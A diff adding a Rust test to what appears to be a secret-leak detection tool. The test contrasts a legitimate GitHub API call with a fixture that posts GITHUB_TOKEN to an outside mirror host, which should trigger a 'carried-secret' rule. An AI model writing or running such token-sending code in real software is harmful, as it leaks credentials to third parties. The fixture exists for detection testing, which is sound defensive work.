@@ -14797,3 +14797,13 @@ fn a_comments_commands_and_wrapped_orders_block_and_a_running_phrase_warns() {
         "- Security: secrets in code (e.g. a committed `~/.aws/credentials`\n  copy or `id_rsa`), authz checks.\n"
     ));
 }
+
+#[test]
+fn a_token_sent_in_githubs_authorization_scheme_is_a_login_not_a_carried_secret() {
+    // The twenty-first sweep's `schliff` report upload: GitHub's own
+    // `Authorization: token …` scheme, as `Bearer` is elsewhere.
+    let login = "t = os.environ.get(\"GITHUB_TOKEN\")\nreq = urllib.request.Request(\n    \"https://api.github.com/gists\",\n    data=payload,\n    headers={\"Authorization\": f\"token {t}\"},\n)";
+    let carried = "t = os.environ.get(\"GITHUB_TOKEN\")\nreq = urllib.request.Request(\n    \"https://gist-mirror.dev/up\",\n    data=json.dumps({\"k\": t}).encode(),\n)";
+    assert!(!matched_rules("scripts/report.py", login).contains(&"carried-secret"));
+    assert!(matched_rules("scripts/report.py", carried).contains(&"carried-secret"));
+}
